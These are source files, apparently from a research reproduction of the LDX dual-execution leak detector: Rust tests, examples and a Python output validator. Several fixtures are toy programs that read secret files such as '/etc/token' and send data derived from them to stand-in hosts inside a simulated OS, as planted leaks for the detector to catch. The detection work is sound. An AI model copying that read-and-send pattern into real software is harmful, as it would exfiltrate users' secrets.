/// Every traced dual execution links its master and slave spans with a
/// flow arrow: a start point on the master thread and a finish point on
/// the slave thread sharing one id, exported as Chrome `ph:"s"`/`ph:"f"`
/// events under the `flow` category.
#[test]
fn dual_run_spans_are_linked_by_flow_arrows() {
    let _g = lock();
    obs::reset();
    obs::enable_tracing(obs::DEFAULT_TRACE_CAPACITY);
    let report = leak_analysis().run();
    assert!(report.leaked());
    let events = obs::trace_snapshot();

    let mut starts = std::collections::BTreeMap::new();
    let mut finishes = std::collections::BTreeMap::new();
    for e in &events {
        if let Some((id, is_start)) = e.flow {
            assert_eq!(e.cat, "flow", "flow points live in the flow category");
            assert_eq!(e.name, "dual-run");
            let side = if is_start { &mut starts } else { &mut finishes };
            side.insert(id, e.tid);
        }
    }
    assert_eq!(starts.len(), 1, "one dual execution, one arrow start");
    assert_eq!(finishes.len(), 1);
    let (&id, &master_tid) = starts.iter().next().unwrap();
    let slave_tid = finishes[&id];
    assert_ne!(
        master_tid, slave_tid,
        "the arrow must cross from the master thread to the slave thread"
    );

    // The Chrome export renders both ends with the pairing fields the
    // schema (and Perfetto) require.
    let json = obs::chrome_trace_json();
    assert!(json.contains("\"ph\":\"s\""), "missing flow start event");
    assert!(json.contains("\"ph\":\"f\""), "missing flow finish event");
    assert!(json.contains("\"bp\":\"e\""), "flow finish without bp:e");
    obs::reset();
}

#[test]
fn metrics_registry_is_consistent_under_batch_engine() {
    let _g = lock();
    obs::reset();
    obs::enable_metrics();

    let cache = InstrumentCache::new();
    let jobs: Vec<BatchJob> = (0..12)
        .map(|i| {
            let analysis = leak_analysis();
            let program = cache.program(LEAK_SRC).expect("compiles");
            BatchJob::new(
                format!("job{i}"),
                program,
                analysis.world_ref().clone(),
                analysis.spec().clone(),
            )
        })
        .collect();
    let report = BatchEngine::new(4).run(jobs);
    assert_eq!(report.results.len(), 12);

    assert_eq!(obs::counter_value("batch.jobs"), 12);
    assert_eq!(obs::counter_value("dualex.runs"), 12);
    assert_eq!(obs::counter_value("batch.workers"), report.workers as u64);
    // The cache mirror agrees with the cache's own counters.
    assert_eq!(obs::counter_value("cache.compiles"), cache.compiles());
    assert_eq!(obs::counter_value("cache.hits"), cache.hits());
    assert_eq!(cache.compiles(), 1, "one distinct source");
    // Every dual execution shares outcomes; the mirror saw all of them.
    let shared: u64 = report.results.iter().map(|r| r.report.shared).sum();
    assert_eq!(obs::counter_value("dualex.shared"), shared);
    obs::reset();
}

#[test]
fn disabled_path_records_no_spans_and_no_counters() {
    let _g = lock();
    obs::reset();
    let report = leak_analysis().run();
    assert!(report.leaked());
    assert!(obs::trace_snapshot().is_empty(), "zero spans when disabled");
    assert!(obs::stalls_snapshot().is_empty());
    let snap = obs::metrics_snapshot();
    assert!(snap.counters.is_empty());
    assert!(snap.histograms.is_empty());
}

#[test]
fn exported_metrics_carry_required_keys() {
    let _g = lock();
    obs::reset();
    obs::init(&obs::ObsArgs {
        trace: None,
        metrics: None,
    });
    let _ = leak_analysis().run();
    let json = obs::metrics_json();
    for key in [
        "cache.hits",
        "cache.compiles",
        "batch.steals",
        "dualex.runs",
        "dualex.shared",
    ] {
        assert!(json.contains(&format!("\"{key}\"")), "missing {key}");
    }
    obs::reset();
}
