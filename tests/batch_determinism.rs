//! Batch-parallel corpus runs must be indistinguishable from sequential
//! `Analysis::run` loops: same verdicts, same causality records, same
//! table rows — under a 1-worker pool and under an oversubscribed pool.
//!
//! Concurrent-suite workloads are excluded from the equality checks: their
//! run-to-run variance comes from Lx-level races inside a single dual
//! execution (that is Table 4's subject), not from the batch schedule.

use ldx::{BatchEngine, BatchJob, InstrumentCache};
use ldx_dualex::{dual_execute, DualReport};
use ldx_workloads::{Suite, Workload};

fn deterministic_corpus() -> Vec<Workload> {
    ldx_workloads::corpus()
        .into_iter()
        .filter(|w| w.suite != Suite::Concurrent)
        .collect()
}

fn jobs_for(workloads: &[Workload]) -> Vec<BatchJob> {
    workloads
        .iter()
        .map(|w| BatchJob::new(w.name, w.program(), w.world.clone(), w.dual_spec()))
        .collect()
}

/// The fields a table row is built from; everything observable must match.
fn row(name: &str, r: &DualReport) -> String {
    format!(
        "{name} leaked={} sinks={} records={:?} shared={} diffs={} decoupled={}",
        r.leaked(),
        r.tainted_sinks(),
        r.causality,
        r.shared,
        r.syscall_diffs,
        r.decoupled,
    )
}

#[test]
fn batch_matches_sequential_under_one_worker_and_oversubscription() {
    let workloads = deterministic_corpus();
    assert!(workloads.len() >= 20, "corpus unexpectedly small");

    let sequential: Vec<String> = workloads
        .iter()
        .map(|w| {
            let r = dual_execute(w.program(), &w.world, &w.dual_spec());
            row(w.name, &r)
        })
        .collect();

    for engine in [BatchEngine::sequential(), BatchEngine::new(usize::MAX)] {
        let batch = engine.run(jobs_for(&workloads));
        assert_eq!(batch.results.len(), workloads.len());
        let rows: Vec<String> = batch
            .results
            .iter()
            .map(|jr| row(&jr.label, &jr.report))
            .collect();
        assert_eq!(
            rows,
            sequential,
            "batch output diverged with {} worker(s)",
            engine.workers()
        );
    }
}

/// Per-job flight recorders are private to their dual execution: under an
/// oversubscribed pool every job's flight log matches the log the same
/// job produces on a sequential pool — co-running jobs never interleave
/// events into each other's recorders. The only field allowed to differ
/// is the barrier release `delta`, which the recorder documents as
/// timing-dependent (how far the peer's published counter had advanced).
#[test]
fn flight_logs_never_interleave_across_batch_jobs() {
    use ldx_dualex::FlightEvent;

    fn stable(lane: &[FlightEvent]) -> Vec<String> {
        lane.iter()
            .map(|ev| match ev {
                FlightEvent::Barrier { thread, cnt, .. } => {
                    format!("Barrier {{ thread: {thread:?}, cnt: {cnt} }}")
                }
                other => format!("{other:?}"),
            })
            .collect()
    }

    let workloads = deterministic_corpus();
    let recording_jobs = || -> Vec<BatchJob> {
        workloads
            .iter()
            .map(|w| {
                let mut spec = w.dual_spec();
                spec.record = true;
                BatchJob::new(w.name, w.program(), w.world.clone(), spec)
            })
            .collect()
    };
    let sequential = BatchEngine::sequential().run(recording_jobs());
    let parallel = BatchEngine::new(usize::MAX).run(recording_jobs());
    for (s, p) in sequential.results.iter().zip(&parallel.results) {
        assert!(
            s.report.flight.master.len() + s.report.flight.slave.len() > 0,
            "{}: recorder enabled but empty",
            s.label
        );
        for (lane, sl, pl) in [
            ("master", &s.report.flight.master, &p.report.flight.master),
            ("slave", &s.report.flight.slave, &p.report.flight.slave),
        ] {
            assert_eq!(
                stable(sl),
                stable(pl),
                "{}: {lane} flight lane differs under the parallel schedule",
                s.label
            );
        }
        assert_eq!(
            s.report.flight.dropped(),
            p.report.flight.dropped(),
            "{}",
            s.label
        );
    }
}

#[test]
fn results_come_back_in_submission_order_regardless_of_job_size() {
    // Interleave heavy and trivial workloads so completion order differs
    // from submission order on any parallel schedule.
    let workloads = deterministic_corpus();
    let batch = BatchEngine::new(usize::MAX).run(jobs_for(&workloads));
    let labels: Vec<&str> = batch.results.iter().map(|r| r.label.as_str()).collect();
    let expected: Vec<&str> = workloads.iter().map(|w| w.name).collect();
    assert_eq!(labels, expected);
}

#[test]
fn facade_run_agrees_with_batch_job_for_the_same_analysis() {
    let analysis = ldx::Analysis::for_source(
        r#"fn main() {
            let s = read(open("/s", 0), 8);
            send(connect("out"), s);
        }"#,
    )
    .unwrap()
    .world(
        ldx::vos::VosConfig::new()
            .file("/s", "abc")
            .peer("out", ldx::vos::PeerBehavior::Echo),
    )
    .source(ldx::SourceSpec::file("/s"));

    let direct = analysis.run();
    let batch = BatchEngine::sequential().run(vec![analysis.batch_job("job")]);
    let via_batch = &batch.results[0].report;
    assert_eq!(direct.leaked(), via_batch.leaked());
    assert_eq!(direct.causality, via_batch.causality);
    assert_eq!(direct.shared, via_batch.shared);
}

#[test]
fn extension_fanout_matches_across_pool_sizes() {
    let analysis = ldx::Analysis::for_source(
        r#"fn main() {
            let a = read(open("/a", 0), 8);
            let b = read(open("/b", 0), 8);
            send(connect("out"), "payload=" + a);
        }"#,
    )
    .unwrap()
    .world(
        ldx::vos::VosConfig::new()
            .file("/a", "used")
            .file("/b", "unused")
            .peer("out", ldx::vos::PeerBehavior::Echo),
    )
    .source(ldx::SourceSpec::file("/a"))
    .source(ldx::SourceSpec::file("/b"))
    .sinks(ldx::SinkSpec::NetworkOut);

    let seq = analysis.attribute_sources_with(&BatchEngine::sequential());
    let par = analysis.attribute_sources_with(&BatchEngine::new(usize::MAX));
    assert_eq!(seq.len(), par.len());
    for (s, p) in seq.iter().zip(&par) {
        assert_eq!(s.index, p.index);
        assert_eq!(s.causal, p.causal);
        assert_eq!(s.report.causality, p.report.causality);
    }
    assert!(seq[0].causal && !seq[1].causal);

    let strength_seq = analysis.causal_strength_with(&BatchEngine::sequential(), &[]);
    let strength_par = analysis.causal_strength_with(&BatchEngine::new(usize::MAX), &[]);
    assert_eq!(strength_seq.flipped, strength_par.flipped);
    assert_eq!(strength_seq.probed, strength_par.probed);
}

#[test]
fn cache_compiles_each_distinct_source_exactly_once() {
    let workloads = ldx_workloads::corpus();
    let distinct: std::collections::HashSet<u64> = workloads
        .iter()
        .map(|w| ldx_instrument::source_fingerprint(&w.source))
        .collect();
    let cache = InstrumentCache::new();
    for _ in 0..3 {
        for w in &workloads {
            cache.program(&w.source).unwrap();
        }
    }
    assert_eq!(
        cache.compiles(),
        distinct.len() as u64,
        "exactly one compile per distinct source"
    );
    assert_eq!(
        cache.hits(),
        (workloads.len() * 3) as u64 - distinct.len() as u64
    );
}

#[test]
fn cached_programs_produce_identical_reports() {
    // A batch built from cached programs behaves exactly like one built
    // from per-workload compiles.
    let workloads = deterministic_corpus();
    let cache = InstrumentCache::new();
    let cached_jobs: Vec<BatchJob> = workloads
        .iter()
        .map(|w| {
            BatchJob::new(
                w.name,
                cache.program(&w.source).unwrap(),
                w.world.clone(),
                w.dual_spec(),
            )
        })
        .collect();
    let fresh = BatchEngine::sequential().run(jobs_for(&workloads));
    let cached = BatchEngine::sequential().run(cached_jobs);
    for (f, c) in fresh.results.iter().zip(&cached.results) {
        assert_eq!(f.report.leaked(), c.report.leaked(), "{}", f.label);
        assert_eq!(f.report.causality, c.report.causality, "{}", f.label);
    }
}
