//! Paper Figure 1: the four examples separating counterfactual causality
//! from program dependences. Each panel encodes who should detect what —
//! LDX (counterfactual), data-dependence tainting (LIBDFT/TaintGrind
//! class), and data+control tainting — and this test holds the whole
//! matrix in place.

use ldx_dualex::dual_execute;
use ldx_taint::{taint_execute, TaintPolicy};
use ldx_workloads::figure1_programs;
use std::sync::Arc;

#[test]
fn figure1_detection_matrix() {
    for case in figure1_programs() {
        let resolved = ldx_lang::compile(&case.source).expect("figure compiles");
        let instrumented =
            Arc::new(ldx_instrument::instrument(&ldx_ir::lower(&resolved)).into_program());
        let plain = Arc::new(ldx_ir::lower(&resolved));

        let ldx_report = dual_execute(Arc::clone(&instrumented), &case.world, &case.spec);
        assert!(
            ldx_report.master.is_ok() && ldx_report.slave.is_ok(),
            "{}: executions failed",
            case.name
        );
        assert_eq!(
            ldx_report.leaked(),
            case.ldx_reports,
            "{}: LDX verdict (records: {:?})",
            case.name,
            ldx_report.causality
        );

        let data = taint_execute(
            &plain,
            &case.world,
            &case.spec.sources,
            &case.spec.sinks,
            TaintPolicy::TaintGrindLike,
        );
        assert_eq!(
            data.any_tainted(),
            case.data_taint_reports,
            "{}: data-taint verdict",
            case.name
        );

        let ctrl = taint_execute(
            &plain,
            &case.world,
            &case.spec.sources,
            &case.spec.sinks,
            TaintPolicy::DataAndControl,
        );
        assert_eq!(
            ctrl.any_tainted(),
            case.control_taint_reports,
            "{}: control-taint verdict",
            case.name
        );
    }
}

/// Panel (c) in detail: the weak (many-to-one) causality. Off-by-one does
/// not flip `s > 50` at s=73, so LDX stays quiet — but a mutation crossing
/// the threshold *is* reported, confirming the sink is reachable.
#[test]
fn figure1c_weak_causality_boundary() {
    let case = figure1_programs()
        .into_iter()
        .find(|c| c.name == "fig1c-weak-control")
        .unwrap();
    let resolved = ldx_lang::compile(&case.source).unwrap();
    let program = Arc::new(ldx_instrument::instrument(&ldx_ir::lower(&resolved)).into_program());

    // Off-by-one at 73: quiet.
    let quiet = dual_execute(Arc::clone(&program), &case.world, &case.spec);
    assert!(!quiet.leaked());

    // Threshold-crossing mutation (73 -> 7): reported.
    let mut crossing = case.spec.clone();
    crossing.sources[0].mutation = ldx_dualex::Mutation::Replace("7".into());
    let loud = dual_execute(program, &case.world, &crossing);
    assert!(loud.leaked(), "crossing the predicate must be causal");
}
