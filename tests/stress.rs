//! Stress tests: larger generated programs and repeated concurrent runs.
//!
//! These exercise the engine at scales the unit suites do not: deeper
//! nesting (more compensation edges, more loop barriers per run) and
//! repeated dual executions of genuinely racy multi-threaded programs.

use ldx_dualex::{dual_execute, DualSpec, Mutation, SinkSpec, SourceMatcher, SourceSpec};
use ldx_runtime::ExecConfig;
use ldx_vos::VosConfig;
use ldx_workloads::{by_suite, random_program_source, GeneratorConfig, Suite};
use std::sync::Arc;

#[test]
fn large_generated_programs_instrument_and_dual_execute() {
    let config = GeneratorConfig {
        max_depth: 5,
        max_block_len: 6,
        helpers: 4,
    };
    for seed in 100..112 {
        let src = random_program_source(seed, &config);
        let resolved = ldx_lang::compile(&src).unwrap_or_else(|e| panic!("seed {seed}: {e}"));
        let ip = ldx_instrument::instrument(&ldx_ir::lower(&resolved));
        ldx_instrument::check_counter_consistency(&ip)
            .unwrap_or_else(|e| panic!("seed {seed}: {e}"));
        let program = Arc::new(ip.into_program());

        let world = VosConfig::new().file("/gen/input", "137").dir("/gen");
        let spec = DualSpec {
            sources: vec![SourceSpec {
                matcher: SourceMatcher::FileRead("/gen/input".into()),
                mutation: Mutation::OffByOne,
            }],
            sinks: SinkSpec::FileOut,
            trace: false,
            record: false,
            enforcement: false,
            exec: ExecConfig {
                max_steps: 20_000_000,
                ..ExecConfig::default()
            },
        };
        let report = dual_execute(Arc::clone(&program), &world, &spec);
        assert!(report.master.is_ok(), "seed {seed}: {:?}", report.master);
        assert!(report.slave.is_ok(), "seed {seed}: {:?}", report.slave);
    }
}

#[test]
fn concurrent_workloads_are_stable_over_repeated_runs() {
    for w in by_suite(Suite::Concurrent) {
        let program = w.program();
        let spec = w.dual_spec();
        for rep in 0..8 {
            let report = dual_execute(program.clone(), &w.world, &spec);
            assert!(
                report.master.is_ok(),
                "`{}` rep {rep}: {:?}",
                w.name,
                report.master
            );
            assert!(
                report.slave.is_ok(),
                "`{}` rep {rep}: {:?}",
                w.name,
                report.slave
            );
            // Whatever the schedule, the planted leak must be found.
            assert!(
                report.leaked(),
                "`{}` rep {rep}: leak missed (diffs {}, shared {})",
                w.name,
                report.syscall_diffs,
                report.shared
            );
        }
    }
}

#[test]
fn deeply_nested_loop_tower_aligns() {
    // Four nested instrumented loops with divergent middle trip counts:
    // a worst case for epoch bookkeeping.
    let program = Arc::new(
        ldx_instrument::instrument(&ldx_ir::lower(
            &ldx_lang::compile(
                r#"fn main() {
                    let n = int(trim(read(open("/in", 0), 4)));
                    let total = 0;
                    for (let a = 0; a < 2; a = a + 1) {
                        for (let b = 0; b < n; b = b + 1) {
                            for (let c = 0; c < 2; c = c + 1) {
                                for (let d = 0; d < n; d = d + 1) {
                                    write(2, str(a) + str(b) + str(c) + str(d));
                                    total = total + 1;
                                }
                            }
                        }
                    }
                    send(connect("out"), "n=" + str(n) + " total=" + str(total));
                }"#,
            )
            .unwrap(),
        ))
        .into_program(),
    );
    let world = VosConfig::new()
        .file("/in", "3")
        .peer("out", ldx_vos::PeerBehavior::Echo);
    let spec = DualSpec {
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/in".into()),
            mutation: Mutation::OffByOne,
        }],
        sinks: SinkSpec::NetworkOut,
        trace: false,
        record: false,
        enforcement: false,
        exec: ExecConfig::default(),
    };
    let report = dual_execute(program, &world, &spec);
    assert!(report.master.is_ok(), "{:?}", report.master);
    assert!(report.slave.is_ok(), "{:?}", report.slave);
    // Master: 2*3*2*3 = 36 writes; slave: 2*4*2*4 = 64. The final send
    // realigns and differs.
    assert!(report
        .causality
        .iter()
        .any(|c| matches!(c.kind, ldx_dualex::CausalityKind::ArgDiff { .. })));
}
