//! Quickstart: detect an information leak with LDX.
//!
//! The program below sends a message whose *content* depends on a secret
//! only through a branch — there is no data flow from the secret to the
//! output, so classic taint tracking sees nothing. LDX runs the program
//! twice (mutating the secret in the second run), keeps the executions
//! aligned with its progress counter, and reports the sink difference.
//!
//! Run: `cargo run --example quickstart`

use ldx::vos::{PeerBehavior, VosConfig};
use ldx::{Analysis, SourceSpec};

fn main() -> Result<(), ldx::Error> {
    let analysis = Analysis::for_source(
        r#"
        fn main() {
            let fd = open("/etc/token", 0);
            let secret = trim(read(fd, 16));
            close(fd);

            let msg = "ping";
            if (secret == "hunter2") {
                msg = "pong";            // control dependence only!
            }
            send(connect("api.example"), msg);
        }
        "#,
    )?
    .world(
        VosConfig::new()
            .file("/etc/token", "hunter2")
            .peer("api.example", PeerBehavior::Echo),
    )
    .source(SourceSpec::file("/etc/token"))
    .traced();

    println!("instrumentation:");
    println!("{}", analysis.instrumentation_report());

    let report = analysis.run();
    println!("alignment trace:");
    for line in report.trace_lines() {
        println!("  {line}");
    }
    println!();
    if report.leaked() {
        println!("LEAK DETECTED:");
        for record in &report.causality {
            println!("  {record}");
        }
    } else {
        println!("no causality between the secret and the outputs");
    }
    println!(
        "\nstats: {} outcomes shared, {} decoupled, {} syscall diffs",
        report.shared, report.decoupled, report.syscall_diffs
    );
    Ok(())
}
