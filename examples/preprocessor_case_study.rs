//! The §8.4 "403.gcc" case study: detecting that preprocessed output
//! leaks the `NGX_HAVE_POLL` configuration macro — a pure
//! control-dependence leak (paper Fig. 7) that dependence-based tainting
//! cannot see.
//!
//! Run: `cargo run --example preprocessor_case_study`

use ldx_dualex::dual_execute;
use ldx_runtime::{run_program, ExecConfig, NativeHooks};
use ldx_taint::{taint_execute, TaintPolicy};
use ldx_vos::Vos;
use std::sync::Arc;

fn main() {
    let w = ldx_workloads::preprocessor_case_study();
    println!("case study: {}\n", w.stands_for);

    // Show the master's preprocessed output.
    let program = w.program();
    let vos = Arc::new(Vos::new(&w.world));
    let hooks = Arc::new(NativeHooks::new(Arc::clone(&vos)));
    run_program(Arc::clone(&program), hooks, ExecConfig::default()).expect("case study runs");
    println!("master output (/out/ngx_module.i), NGX_HAVE_POLL defined:");
    for line in vos
        .file_contents("/out/ngx_module.i")
        .unwrap_or_default()
        .lines()
    {
        println!("  | {line}");
    }

    // Dual-execute: the slave's configuration defines NGX_HAVE_EPOLL
    // instead; the emitted lines differ only through the skip decision.
    let report = dual_execute(program, &w.world, &w.dual_spec());
    println!(
        "\nLDX verdict: {}",
        if report.leaked() { "LEAK" } else { "clean" }
    );
    for c in &report.causality {
        println!("  {c}");
    }

    let tg = taint_execute(
        &w.program_uninstrumented(),
        &w.world,
        &w.sources,
        &w.sinks,
        TaintPolicy::TaintGrindLike,
    );
    println!(
        "\nTAINTGRIND tainted sinks: {} (the `skipping` flag breaks data-flow \
         propagation, exactly as the paper's Fig. 7 explains)",
        tg.tainted_sink_instances
    );
}
