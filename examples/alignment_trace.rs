//! Reproduces the *alignment traces* of paper Figures 3 and 5: the
//! syscall-by-syscall synchronization actions of the master and the slave
//! on the employee example (Fig. 2/3) and the nested-loop example
//! (Fig. 4/5).
//!
//! Run: `cargo run --example alignment_trace`

use ldx_dualex::dual_execute;
use ldx_workloads::{figure2_employee, figure4_loops};

fn show(case: &ldx_workloads::FigureCase) {
    println!("=== {} ===", case.name);
    let program = std::sync::Arc::new(
        ldx_instrument::instrument(&ldx_ir::lower(
            &ldx_lang::compile(&case.source).expect("figure sources compile"),
        ))
        .into_program(),
    );
    let report = dual_execute(program, &case.world, &case.spec);
    println!("trace (role thread key syscall action):");
    for line in report.trace_lines() {
        println!("  {line}");
    }
    println!();
    if report.leaked() {
        println!("causality detected:");
        for c in &report.causality {
            println!("  {c}");
        }
    } else {
        println!("no causality detected");
    }
    println!(
        "shared outcomes: {}, decoupled: {}, syscall diffs: {}\n",
        report.shared, report.decoupled, report.syscall_diffs
    );
}

fn main() {
    // Figure 2/3: title=STAFF in the master, MANAGER in the slave. The
    // executions diverge inside the branch (different contract files, the
    // senior-manager write, the dept read) and re-align at the send, where
    // the raise difference reveals the leak.
    show(&figure2_employee());

    // Figure 4/5: loop bounds (n, m) are the sources; the master runs
    // n=1, m=2 and the slave n=2, m=1. Iteration epochs keep the loops
    // aligned; the final send realigns and differs.
    show(&figure4_loops());
}
