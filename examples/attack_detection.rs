//! Attack detection on the vulnerable-program suite (the paper's second
//! application, §8.3 last six rows of Table 3).
//!
//! Each program parses untrusted input; its critical execution point (a
//! return-address / allocation-size stand-in) is a *site sink*. LDX
//! mutates the untrusted input off-by-one style and reports causality
//! between the input and the critical value — the signature of a
//! controllable corruption. Three of the six corruptions flow through
//! *control* decisions only, which is why the taint baselines miss them.
//!
//! Run: `cargo run --example attack_detection`

use ldx_dualex::dual_execute;
use ldx_taint::{taint_execute, TaintPolicy};
use ldx_workloads::{by_suite, Suite};

fn main() {
    println!("attack detection: vulnerable-program suite\n");
    println!(
        "{:<10} {:<22} {:>6} {:>12} {:>8}",
        "program", "stands for", "ldx", "taintgrind", "libdft"
    );
    let mut ldx_hits = 0;
    let mut tg_hits = 0;
    let mut dft_hits = 0;
    for w in by_suite(Suite::Vulnerable) {
        let report = dual_execute(w.program(), &w.world, &w.dual_spec());
        let plain = w.program_uninstrumented();
        // Taint tools analyze the attack input itself.
        let taint_world = ldx_baselines::mutate_config(&w.world, &w.sources);
        let tg = taint_execute(
            &plain,
            &taint_world,
            &w.sources,
            &w.sinks,
            TaintPolicy::TaintGrindLike,
        );
        let dft = taint_execute(
            &plain,
            &taint_world,
            &w.sources,
            &w.sinks,
            TaintPolicy::LibDftLike,
        );
        let v = |b: bool| if b { "ALERT" } else { "-" };
        if report.leaked() {
            ldx_hits += 1;
        }
        if tg.any_tainted() {
            tg_hits += 1;
        }
        if dft.any_tainted() {
            dft_hits += 1;
        }
        println!(
            "{:<10} {:<22} {:>6} {:>12} {:>8}",
            w.name,
            w.stands_for,
            v(report.leaked()),
            v(tg.any_tainted()),
            v(dft.any_tainted())
        );
        for c in report.causality.iter().take(1) {
            println!("           -> {c}");
        }
    }
    println!(
        "\ndetected: LDX {ldx_hits}/6, TAINTGRIND {tg_hits}/6, LIBDFT {dft_hits}/6 \
         (the control-flow corruptions are invisible to dependence tracking)"
    );
}
