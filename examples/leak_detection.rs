//! Information-leak detection across the network/system suite, comparing
//! LDX against the taint-tracking baselines (the paper's Table 3 story on
//! five programs).
//!
//! Run: `cargo run --example leak_detection`

use ldx_dualex::dual_execute;
use ldx_taint::{taint_execute, TaintPolicy};
use ldx_workloads::{by_suite, Suite};

fn main() {
    println!("information-leak detection: network/system suite\n");
    for w in by_suite(Suite::NetSys) {
        println!("== {} (stands in for {}) ==", w.name, w.stands_for);
        let report = dual_execute(w.program(), &w.world, &w.dual_spec());
        match report.master.as_ref() {
            Ok(out) => println!(
                "  master: {} syscalls, exit {}",
                out.stats.syscalls, out.exit_code
            ),
            Err(trap) => println!("  master trapped: {trap}"),
        }
        if report.leaked() {
            println!("  LDX: LEAK ({} causality records)", report.causality.len());
            for c in report.causality.iter().take(3) {
                println!("    {c}");
            }
        } else {
            println!("  LDX: no causality");
        }

        let plain = w.program_uninstrumented();
        for policy in [TaintPolicy::TaintGrindLike, TaintPolicy::LibDftLike] {
            let taint = taint_execute(&plain, &w.world, &w.sources, &w.sinks, policy);
            println!(
                "  {}: {} / {} sinks tainted",
                policy.name(),
                taint.tainted_sink_instances,
                taint.total_sink_instances
            );
        }
        println!();
    }

    // The §8.4 case studies.
    for w in [
        ldx_workloads::preprocessor_case_study(),
        ldx_workloads::showip_case_study(),
    ] {
        println!("== case study: {} ==", w.stands_for);
        let report = dual_execute(w.program(), &w.world, &w.dual_spec());
        println!(
            "  LDX: {}",
            if report.leaked() {
                "LEAK detected (control-dependence causality)"
            } else {
                "no causality"
            }
        );
        let tg = taint_execute(
            &w.program_uninstrumented(),
            &w.world,
            &w.sources,
            &w.sinks,
            TaintPolicy::TaintGrindLike,
        );
        println!(
            "  TAINTGRIND: {} (the paper's point: dependence tracking misses it)",
            if tg.any_tainted() {
                "tainted"
            } else {
                "nothing"
            }
        );
        println!();
    }
}
