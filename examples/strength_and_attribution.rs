//! The analysis extensions: pinning causality on a *specific* source and
//! estimating its *strength* (paper §2's strong/one-to-one vs
//! weak/many-to-one distinction, probed empirically).
//!
//! Run: `cargo run --example strength_and_attribution`

use ldx::vos::{PeerBehavior, VosConfig};
use ldx::{Analysis, Mutation, SinkSpec, SourceSpec};

fn main() -> Result<(), ldx::Error> {
    // A service that consults three inputs but leaks only some of them —
    // and one of those only coarsely.
    let analysis = Analysis::for_source(
        r#"
        fn main() {
            let user = trim(read(open("/etc/username", 0), 16));
            let balance = int(trim(read(open("/db/balance", 0), 16)));
            let theme = trim(read(open("/etc/theme", 0), 16));

            // The username flows out verbatim: a strong leak.
            // The balance flows out only as a rich/poor bit: a weak one.
            // The theme never leaves the machine.
            let tier = "basic";
            if (balance > 1000000) { tier = "premium"; }
            write(2, "theme=" + theme);
            send(connect("analytics.example"), user + ":" + tier);
        }
        "#,
    )?
    .world(
        VosConfig::new()
            .file("/etc/username", "ada")
            .file("/db/balance", "5000")
            .file("/etc/theme", "dark")
            .peer("analytics.example", PeerBehavior::Echo),
    )
    .source(SourceSpec::file("/etc/username"))
    .source(SourceSpec::file("/db/balance"))
    .source(SourceSpec::file("/etc/theme"))
    .sinks(SinkSpec::NetworkOut);

    println!("combined run: leaked = {}\n", analysis.run().leaked());

    println!("per-source attribution:");
    for attr in analysis.attribute_sources() {
        println!(
            "  source #{} {:?}: {}",
            attr.index,
            attr.source.matcher,
            if attr.causal { "CAUSAL" } else { "inert" }
        );
    }

    println!("\ncausal strength of the first source (username):");
    let s = analysis.causal_strength(&[Mutation::Replace("grace".into())]);
    println!(
        "  {}/{} probes observable -> score {:.2} ({})",
        s.flipped,
        s.probed,
        s.score(),
        if s.is_strong() {
            "strong, one-to-one"
        } else {
            "weak / partial"
        }
    );
    Ok(())
}
