//! Workspace facade for the LDX reproduction.
//!
//! This package only exists to host the cross-crate integration tests in
//! `tests/` and the runnable examples in `examples/`. Downstream users should
//! depend on the [`ldx`] crate directly.
pub use ldx;
