#!/usr/bin/env python3
"""Validate `ldx analyze` output against schemas/sdep_schema.json.

Usage:
    check_sdep_output.py --json sdep.json [--dot sdep.dot]

Stdlib-only: reuses the JSON-Schema subset of check_obs_output.py (type,
required, properties, additionalProperties-as-schema, items, enum,
minimum, minItems, $ref into #/definitions). On top of the schema, it
asserts cross-references the schema cannot express: the site and
reachability tables cover the same (func, site) keys, every sink refers
to a listed syscall site, and at least one site reaches another. The
optional --dot check is structural: a non-empty digraph with edges.
"""

import argparse
import json
import sys
from pathlib import Path

SCHEMA_PATH = Path(__file__).resolve().parent.parent / "schemas" / "sdep_schema.json"

TYPES = {
    "object": dict,
    "array": list,
    "string": str,
    "boolean": bool,
    "number": (int, float),
}


class Invalid(Exception):
    pass


def fail(path, message):
    raise Invalid(f"{path or '$'}: {message}")


def validate(value, schema, defs, path=""):
    if "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        validate(value, defs[name], defs, path)
        return
    if "enum" in schema:
        if value not in schema["enum"]:
            fail(path, f"{value!r} not in {schema['enum']}")
        return
    typ = schema.get("type")
    if typ == "integer":
        if not isinstance(value, int) or isinstance(value, bool):
            fail(path, f"expected integer, got {type(value).__name__}")
    elif typ is not None:
        expected = TYPES[typ]
        if not isinstance(value, expected) or (
            typ == "number" and isinstance(value, bool)
        ):
            fail(path, f"expected {typ}, got {type(value).__name__}")
    if "minimum" in schema and value < schema["minimum"]:
        fail(path, f"{value} < minimum {schema['minimum']}")
    if isinstance(value, dict):
        for key in schema.get("required", ()):
            if key not in value:
                fail(path, f"missing required key {key!r}")
        props = schema.get("properties", {})
        extra = schema.get("additionalProperties")
        for key, item in value.items():
            if key in props:
                validate(item, props[key], defs, f"{path}.{key}")
            elif isinstance(extra, dict):
                validate(item, extra, defs, f"{path}.{key}")
    if isinstance(value, list):
        if "minItems" in schema and len(value) < schema["minItems"]:
            fail(path, f"{len(value)} items < minItems {schema['minItems']}")
        item_schema = schema.get("items")
        if isinstance(item_schema, dict):
            for i, item in enumerate(value):
                validate(item, item_schema, defs, f"{path}[{i}]")


def check_analysis(doc, defs):
    validate(doc, defs["analysis"], defs, "analysis")
    site_keys = {(s["func"], s["site"]) for s in doc["sites"]}
    if len(site_keys) != len(doc["sites"]):
        fail("sites", "duplicate (func, site) entries")
    reach_keys = {(r["func"], r["site"]) for r in doc["reachability"]}
    if site_keys != reach_keys:
        fail(
            "reachability",
            f"site/reachability key mismatch: "
            f"only-in-sites={sorted(site_keys - reach_keys)} "
            f"only-in-reachability={sorted(reach_keys - site_keys)}",
        )
    for i, r in enumerate(doc["reachability"]):
        for sink in r["sinks"]:
            key = (sink["func"], sink["site"])
            if key not in site_keys:
                fail(f"reachability[{i}]", f"sink {key} is not a listed site")
    if not any(len(r["sinks"]) > 1 for r in doc["reachability"]):
        fail("reachability", "no site reaches any other site — empty analysis?")
    print(
        f"analysis ok: {doc['program']!r}, {doc['functions']} functions, "
        f"{doc['nodes']} nodes, {doc['edges']} edges, "
        f"{len(doc['sites'])} syscall sites"
    )


def check_dot(text):
    if not text.startswith("digraph"):
        fail("dot", "does not start with 'digraph'")
    if not text.rstrip().endswith("}"):
        fail("dot", "does not end with '}'")
    edges = sum("->" in line for line in text.splitlines())
    if edges == 0:
        fail("dot", "no edges")
    print(f"dot ok: {edges} edge lines")


def main():
